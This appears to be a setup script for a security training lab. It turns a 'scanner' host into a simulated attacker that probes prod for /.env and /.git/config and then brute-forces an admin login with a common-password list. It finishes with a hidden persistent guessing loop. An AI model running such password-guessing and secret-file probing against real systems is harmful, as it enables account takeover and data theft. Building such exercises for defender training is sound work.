#!/bin/bash
# security-checklist setup on scanner (root): a host on the same network that guesses passwords on
# prod's login and probes for files that should never be served, then keeps trying every few
# seconds. Nothing on it is open to the trainee: no SSH, no keys.
set -euo pipefail
systemctl stop ssh impactlink-traffic cron >/dev/null 2>&1 || true
rm -f /home/impactlink/.ssh/authorized_keys /root/.ssh/authorized_keys
DOMAIN=impactlink.solovedhelpinghands.org.za
prod=$(getent ahostsv4 prod | awk 'NR == 1 {print $1}')
[ -n "$prod" ]
cat >/root/.guess <<SCRIPT
#!/bin/bash
# One round: probe a few paths, then try a password for a known donor.
attempt() {
    curl -q -sk -o /dev/null --max-time 4 --resolve "$DOMAIN:443:$prod" -A 'python-requests/2.31.0' "\$@"
}
round() {
    for path in /.env /.git/config /wp-login.php; do attempt "https://$DOMAIN\$path" & done
    attempt -H 'Content-Type: application/json' -d "{\"email\":\"admin@solovedhelpinghands.org.za\",\"password\":\"\$1\"}" \
        "https://$DOMAIN/api/v1/auth/login"
    wait
}
SCRIPT
# The burst the review will find (a few guesses in parallel), then a slow drip for as long as the lab runs.
bash -c 'source /root/.guess; for pw in admin123 Password1 impactlink letmein qwerty123 welcome1 donate2024 \
    charity! admin@123 P@ssw0rd summer2024 iloveyou 123456789 impact2024 sunshine monkey123 dragon1 football; do
    round "$pw" & round "$pw!" & wait; done'
setsid nohup bash -c 'source /root/.guess; while :; do round "guess$RANDOM"; sleep 6; done' >/dev/null 2>&1 </dev/null &
